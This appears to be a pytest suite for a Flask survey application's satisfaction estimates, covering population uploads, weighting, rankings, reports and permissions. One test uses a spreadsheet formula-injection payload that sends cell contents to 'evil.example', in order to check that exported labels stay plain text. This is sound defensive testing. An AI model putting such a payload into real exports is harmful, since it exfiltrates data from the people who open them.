"""Satisfaction estimation: population upload, weighting rule, composite and ranks, reports, templates."""

from __future__ import annotations

import io

import numpy as np
import pandas as pd
import pytest
from flask import Flask
from flask.testing import FlaskClient
from openpyxl import load_workbook
from sqlalchemy import select
from sqlalchemy.orm import Session

import weighting
from survey_app.accounts.models import Role
from survey_app.core import db
from survey_app.core.errors import ValidationFailed
from survey_app.demo.services import demo_satisfaction
from survey_app.projects.models import SurveyProject
from survey_app.questionnaires.models import QuestionnaireVersion
from survey_app.satisfaction.models import CountyLink, SatisfactionRun
from survey_app.satisfaction.services import satisfaction
from weighting import indices

from .. import workbooks
from ..satisfaction_world import demo_projects, new_project, stored_run

ITEMS = demo_satisfaction.ITEMS


@pytest.fixture
def project_id(app: Flask) -> int:
    return demo_projects(app)


def _sample(per_cell: int = 12, seed: int = 5) -> tuple[pd.DataFrame, pd.DataFrame]:
    rng = np.random.default_rng(seed)
    population = demo_satisfaction.population_table(rng)
    population = population[population["county"].isin(["c01", "c02", "c03"])]
    cells = {(c, a): per_cell * 10 for c in ("c01", "c02", "c03") for a in ("urban", "rural")}
    answers = pd.DataFrame.from_records(demo_satisfaction.synthetic_answers(rng, cells))
    return answers, population


def test_population_upload_names_bad_rows_and_stores_nothing(app: Flask, project_id: int, session: Session) -> None:
    project = session.get(SurveyProject, project_id)
    bad = "county,sex,age_group,area,count\nc01,1,15_24,urban,100\nc01,1,15_24,urban,5\n,2,15_24,urban,7\nc02,1,25_34,rural,-3\n"
    with pytest.raises(ValidationFailed) as caught:
        satisfaction.upload_population(session, project, bad.encode(), "p.csv")
    rows = caught.value.errors["rows"]
    assert rows == ["row 3: this cell appears on an earlier row", "row 4: county is empty",
                    "row 5: count must be a whole number of at least 0"]
    session.rollback()
    assert satisfaction.population_tables(session, project) == []
    with pytest.raises(ValidationFailed, match="columns"):
        satisfaction.upload_population(session, project, b"county,sex,count\nc01,1,3\n", "p.csv")
    good = demo_satisfaction.population_table(np.random.default_rng(1))
    out = io.BytesIO()
    good.to_excel(out, index=False)
    table = satisfaction.upload_population(session, project, out.getvalue(), "p.xlsx", name="2025")
    assert table.row_count == 100 and table.total == int(good["count"].sum()) and len(table.sha256) == 64
    pd.testing.assert_frame_equal(satisfaction.population_frame(table), good.astype({"count": "int64"}), check_dtype=False)


def test_poststratification_when_cells_are_full_matches_weighting(app: Flask) -> None:
    answers, population = _sample(per_cell=40)
    result = satisfaction.estimate(answers, population, ITEMS, None)
    assert result.method["adjustment"] == "poststratify" and result.method["sparse_cells"] == 0
    assert "non-probability" in result.method["sample"]
    # The same estimates from weighting directly.
    data = answers[list(satisfaction.DIMENSIONS)].astype("string")
    data = pd.concat([data, indices.rescale(answers, ITEMS)], axis=1)
    design = weighting.Design(data, weights=np.ones(len(data))).poststratify(
        population.astype(dict.fromkeys(satisfaction.DIMENSIONS, "string")))
    expected = indices.composite_index(design, ITEMS, by="county").set_index("county")
    got = result.composite[result.composite["county"] != ""].set_index("county")
    np.testing.assert_allclose(got["estimate"], expected.loc[got.index, "estimate"], rtol=1e-10)
    np.testing.assert_allclose(got["se"], expected.loc[got.index, "se"], rtol=1e-10)
    # Weighted totals equal the population: the overall composite uses population shares of counties.
    means = design.mean(ITEMS[0], by="county").set_index("county")["estimate"]
    item = result.items[(result.items["variable"] == ITEMS[0]) & (result.items["county"] != "")].set_index("county")
    np.testing.assert_allclose(item["estimate"], means.loc[item.index], rtol=1e-12)
    # Share satisfied: answers 4 or 5 among those who answered.
    share = item["share"]
    assert ((share > 0) & (share < 1)).all() and (item["share_low"] < share).all() and (share < item["share_high"]).all()
    ranks = got[["rank", "rank_low", "rank_high"]]
    assert sorted(ranks["rank"].tolist()) == [1, 2, 3]
    assert ((ranks["rank_low"] <= ranks["rank"]) & (ranks["rank"] <= ranks["rank_high"])).all()
    assert (got["effective_n"] <= got["n"] / 0.5).all() and (got["effective_n"] > 0).all()


def test_sparse_cells_switch_to_raking_on_county_margins(app: Flask) -> None:
    answers, population = _sample(per_cell=12)
    answers = answers[~((answers["county"] == "c02") & (answers["age_group"] == "55_65") & (answers["sex"] == "1"))]
    answers = answers.reset_index(drop=True)
    result = satisfaction.estimate(answers, population, ITEMS, {"i01": 3.0, "i02": 1.0})
    assert result.method["adjustment"] == "rake" and result.method["sparse_cells"] >= 2
    assert result.method["composite"]["weights"] == {**dict.fromkeys(ITEMS, 0.0), "i01": 0.75, "i02": 0.25}
    county = result.composite.set_index("county")
    items = result.items.set_index(["county", "variable"])
    for code in ("c01", "c02", "c03"):
        expected = 0.75 * items.loc[(code, "i01"), "estimate"] + 0.25 * items.loc[(code, "i02"), "estimate"]
        assert county.loc[code, "estimate"] == pytest.approx(expected, rel=1e-12)
    with pytest.raises(ValidationFailed, match="margins"):
        satisfaction.estimate(answers[answers["county"] != "c03"].assign(
            area=lambda f: np.where(f["county"] == "c02", "urban", f["area"])).reset_index(drop=True),
            population, ITEMS, None)


def test_malformed_xml_inside_a_population_workbook_is_refused(client: FlaskClient, app: Flask, project_id: int, logged_in) -> None:  # type: ignore[no-untyped-def]
    logged_in(Role.ADMIN)
    population = demo_satisfaction.population_table(np.random.default_rng(2)).astype(str)
    damaged = workbooks.broken_at_row(workbooks.xlsx([list(population.columns), *population.to_numpy().tolist()]), 10)
    reply = client.post(f"/admin/satisfaction/{project_id}/population", data={"file": (io.BytesIO(damaged), "pop.xlsx")},
                        content_type="multipart/form-data")
    assert reply.status_code == 422 and "The Excel workbook could not be read" in reply.get_data(as_text=True)
    with db.session_factory(app)() as session:
        assert satisfaction.population_tables(session, session.get(SurveyProject, project_id)) == []


def test_nul_bytes_in_a_population_table_are_refused_naming_row_and_column(client: FlaskClient, app: Flask, project_id: int, logged_in) -> None:  # type: ignore[no-untyped-def]
    logged_in(Role.ADMIN)
    csv = demo_satisfaction.population_table(np.random.default_rng(2)).to_csv(index=False).encode()
    damaged = csv.replace(b"\nc01,", b"\nc0\x001,", 1)
    reply = client.post(f"/admin/satisfaction/{project_id}/population", data={"file": (io.BytesIO(damaged), "pop.csv")},
                        content_type="multipart/form-data")
    page = reply.get_data(as_text=True)
    assert reply.status_code == 422 and "NUL (0x00) bytes" in page and "row 2, column county" in page
    with db.session_factory(app)() as session:
        assert satisfaction.population_tables(session, session.get(SurveyProject, project_id)) == []


def test_a_population_workbook_over_a_reading_limit_is_refused(client: FlaskClient, app: Flask, project_id: int, logged_in) -> None:  # type: ignore[no-untyped-def]
    """A 609 kB population workbook of a million rows took 1.1 GB and 110 s before it was refused."""
    logged_in(Role.ADMIN)
    app.config["SHEET_MAX_CELLS"] = 1_000
    rows = [["county", "sex", "age_group", "area", "count"], *([f"c{i:04d}", "1", "15_24", "urban", "10"] for i in range(300))]
    reply = client.post(f"/admin/satisfaction/{project_id}/population", data={"file": (io.BytesIO(workbooks.streamed_xlsx({"p": rows})), "pop.xlsx")},
                        content_type="multipart/form-data")
    assert reply.status_code == 422 and "The workbook has more than 1000 cells" in reply.get_data(as_text=True)
    with db.session_factory(app)() as session:
        assert satisfaction.population_tables(session, session.get(SurveyProject, project_id)) == []


def test_runs_reports_chart_xlsx_and_print(client: FlaskClient, app: Flask, project_id: int, logged_in) -> None:  # type: ignore[no-untyped-def]
    logged_in(Role.ADMIN)
    with db.session_factory(app)() as session:
        project = session.get(SurveyProject, project_id)
        version_id = satisfaction.published_version(session, project).id
        demo_satisfaction._bulk_responses(session, project, version_id, np.random.default_rng(3))
        session.commit()
    csv = demo_satisfaction.population_table(np.random.default_rng(2)).to_csv(index=False).encode()
    reply = client.post(f"/admin/satisfaction/{project_id}/population", data={"name": "2025", "file": (io.BytesIO(csv), "pop.csv")},
                        content_type="multipart/form-data")
    assert reply.status_code == 303
    bad = client.post(f"/admin/satisfaction/{project_id}/population", data={"file": (io.BytesIO(b"county,count\nx,1\n"), "p.csv")},
                      content_type="multipart/form-data")
    assert bad.status_code == 422 and "missing: sex" in bad.get_data(as_text=True)
    reply = client.post(f"/admin/satisfaction/{project_id}/indices", data={"name": "Expert", "weights": "i01=2\ni02=1\ni99=3"})
    assert reply.status_code == 422 and "i99" in reply.get_data(as_text=True)
    assert client.post(f"/admin/satisfaction/{project_id}/indices",
                       data={"name": "Expert", "weights": "i01=2\ni02=1", "note": "Delphi"}).status_code == 303
    with db.session_factory(app)() as session:
        table_id = satisfaction.population_tables(session, session.get(SurveyProject, project_id))[0].id
    reply = client.post(f"/admin/satisfaction/{project_id}/runs", data={"population_table_id": table_id})
    assert reply.status_code == 303
    with db.session_factory(app)() as session:
        run = session.scalars(select(SatisfactionRun)).one()
        assert run.method["index"]["method"] == "equal" and len(run.method["composite"]["items"]) == 16
        run_id = run.id
    page = client.get(reply.headers["Location"]).get_data(as_text=True)
    assert "Non-probability sample" in page and 'id="ranking"' in page and "Donghu County" in page
    county = client.get(f"/admin/satisfaction/runs/{run_id}/county/c01")
    html = county.get_data(as_text=True)
    assert county.status_code == 200 and "<svg" in html and "Effective n" in html and "Enough kindergarten places" in html
    printable = client.get(f"/admin/satisfaction/runs/{run_id}/county/c01?print=1").get_data(as_text=True)
    assert "@page" in printable and "<svg" in printable and 'class="subnav"' not in printable
    assert client.get(f"/admin/satisfaction/runs/{run_id}/county/c77").status_code == 404
    book = load_workbook(io.BytesIO(client.get(f"/admin/satisfaction/runs/{run_id}.xlsx").data))
    assert book.sheetnames == ["method", "composite", "items"]
    rows = list(book["composite"].values)
    assert rows[0][:3] == ("county", "name", "estimate") and len(rows) == 1 + 6
    assert any("non-probability" in str(v) for row in book["method"].values for v in row)


def test_workbook_keeps_formula_looking_labels_as_text(client: FlaskClient, app: Flask, project_id: int, logged_in) -> None:  # type: ignore[no-untyped-def]
    county, item = '=HYPERLINK("http://evil.example/?d="&A1,"open")', "@SUM(A1)"
    run_id = stored_run(app, project_id, counties={"c01": county}, items={"i01": item})
    logged_in(Role.ADMIN)
    book = load_workbook(io.BytesIO(client.get(f"/admin/satisfaction/runs/{run_id}.xlsx").data))
    assert all(cell.data_type != "f" for sheet in book.worksheets for row in sheet.iter_rows() for cell in row)
    composite = {row[0]: row for row in book["composite"].iter_rows(min_row=2, values_only=True)}
    assert composite["c01"][1] == "'" + county and isinstance(composite["c01"][2], float)
    items = [row for row in book["items"].iter_rows(min_row=2, values_only=True) if row[1] == "i01"]
    assert items and {row[2] for row in items} == {"'" + item} and all(isinstance(row[7], int) for row in items)


def test_county_report_shows_labels_that_look_like_math_text(client: FlaskClient, app: Flask, project_id: int, logged_in) -> None:  # type: ignore[no-untyped-def]
    run_id = stored_run(app, project_id, counties={"c01": "$\\frac$ county"}, items={"i01": "$$ places"})
    logged_in(Role.ADMIN)
    for county in ("c01", "all"):
        page = client.get(f"/admin/satisfaction/runs/{run_id}/county/{county}")
        assert page.status_code == 200, county
        chart = page.get_data(as_text=True).split("<svg", 1)[1]
        assert "i01 $$ places" in chart  # the item label, drawn as written
    assert "$\\frac$ county" in client.get(f"/admin/satisfaction/runs/{run_id}/county/c01").get_data(as_text=True).split("<svg", 1)[1]


def test_county_links_qr_and_copy_as_template(client: FlaskClient, app: Flask, project_id: int, logged_in) -> None:  # type: ignore[no-untyped-def]
    logged_in(Role.ADMIN)
    assert client.post(f"/admin/satisfaction/{project_id}/links").status_code == 303
    assert client.post(f"/admin/satisfaction/{project_id}/links").status_code == 303  # idempotent
    with db.session_factory(app)() as session:
        links = session.scalars(select(CountyLink).order_by(CountyLink.county)).all()
        assert [link.county for link in links] == ["c01", "c02", "c03", "c04", "c05"]
        target = new_project(session, "county-satisfaction-2027")
        session.commit()
        link_id, target_id = links[0].id, target.id
    qr = client.get(f"/admin/satisfaction/links/{link_id}/qr.svg")
    assert qr.status_code == 200 and qr.mimetype == "image/svg+xml" and b"<svg" in qr.data
    assert client.post(f"/admin/satisfaction/{project_id}/copy", data={"target_id": target_id}).status_code == 303
    with db.session_factory(app)() as session:
        draft = session.scalars(select(QuestionnaireVersion).order_by(QuestionnaireVersion.id.desc())).first()
        source = satisfaction.published_version(session, session.get(SurveyProject, project_id))
        assert draft is not None and not draft.is_published and draft.questionnaire.project_id == target_id
        assert [i.name for i in satisfaction.scale_items(draft.definition)] == [i.name for i in satisfaction.scale_items(source.definition)]
    assert client.post(f"/admin/satisfaction/{project_id}/copy", data={"target_id": project_id}).status_code == 422


def test_reports_need_permission(client: FlaskClient, project_id: int, logged_in) -> None:  # type: ignore[no-untyped-def]
    logged_in(Role.REVIEWER)
    assert client.get(f"/admin/satisfaction/{project_id}").status_code == 403
    assert client.get(f"/admin/satisfaction/{project_id}/quotas").status_code == 403


def test_statistician_reads_the_latest_estimates(client: FlaskClient, app: Flask, project_id: int, logged_in) -> None:  # type: ignore[no-untyped-def]
    with db.session_factory(app)() as session:
        project = session.get(SurveyProject, project_id)
        demo_satisfaction._bulk_responses(session, project, satisfaction.published_version(session, project).id,
                                          np.random.default_rng(4))
        table = satisfaction.upload_population(session, project, demo_satisfaction.population_table(
            np.random.default_rng(4)).to_csv(index=False).encode(), "p.csv")
        config = satisfaction.default_index_config(session, project, actor_label="test")
        satisfaction.run(session, project, table, config, actor_label="test")
        newest = satisfaction.run(session, project, table, config, seed=7, actor_label="test")
        session.commit()
        newest_id = newest.id
    logged_in(Role.STATISTICIAN)
    index = client.get("/admin/satisfaction/").get_data(as_text=True)
    assert f"/admin/satisfaction/runs/{newest_id}" in index and f"/admin/satisfaction/{project_id}/quotas" not in index
    assert client.get(f"/admin/satisfaction/runs/{newest_id}").status_code == 200
    assert client.get(f"/admin/satisfaction/{project_id}").status_code == 403


def test_bootstrap_ranking_agrees_with_the_simulation(app: Flask) -> None:
    answers, population = _sample(per_cell=20, seed=8)
    simulated = satisfaction.estimate(answers, population, ITEMS, None, seed=3)
    boot = satisfaction.estimate(answers, population, ITEMS, None, seed=3, ranking="bootstrap")
    assert boot.method["ranking"] == {"method": "bootstrap", "seed": 3, "level": 0.95, "draws": satisfaction.BOOTSTRAP_REPLICATES}
    a = simulated.composite.set_index("county")
    b = boot.composite.set_index("county")
    pd.testing.assert_series_equal(a["estimate"], b["estimate"])
    counties = ["c01", "c02", "c03"]
    assert a.loc[counties, "rank"].tolist() == b.loc[counties, "rank"].tolist()
    assert (abs(a.loc[counties, "rank_low"] - b.loc[counties, "rank_low"]) <= 1).all()
    assert (abs(a.loc[counties, "rank_high"] - b.loc[counties, "rank_high"]) <= 1).all()
    with pytest.raises(ValidationFailed, match="ranking"):
        satisfaction.estimate(answers, population, ITEMS, None, ranking="guess")


def test_model_loadings_index_is_fixed_from_the_responses(client: FlaskClient, app: Flask, project_id: int, logged_in) -> None:  # type: ignore[no-untyped-def]
    logged_in(Role.ADMIN)
    empty = client.post(f"/admin/satisfaction/{project_id}/indices", data={"name": "Loadings", "method": "loadings"})
    assert empty.status_code == 422  # no responses yet: nothing to estimate loadings from
    with db.session_factory(app)() as session:
        project = session.get(SurveyProject, project_id)
        demo_satisfaction._bulk_responses(session, project, satisfaction.published_version(session, project).id,
                                          np.random.default_rng(6))
        session.commit()
        answers = satisfaction.responses_frame(session, project)
    reply = client.post(f"/admin/satisfaction/{project_id}/indices", data={"name": "Loadings", "method": "loadings"})
    assert reply.status_code == 303
    with db.session_factory(app)() as session:
        config = satisfaction.index_configs(session, session.get(SurveyProject, project_id))[0]
    expected = indices.loading_weights(indices.rescale(answers, ITEMS), ITEMS)
    assert config.method.value == "loadings" and config.items == ITEMS
    np.testing.assert_allclose([config.weights[i] for i in ITEMS], expected.to_numpy(), rtol=1e-12)
    both = client.post(f"/admin/satisfaction/{project_id}/indices", data={"name": "X", "method": "loadings", "weights": "i01=1"})
    assert both.status_code == 422
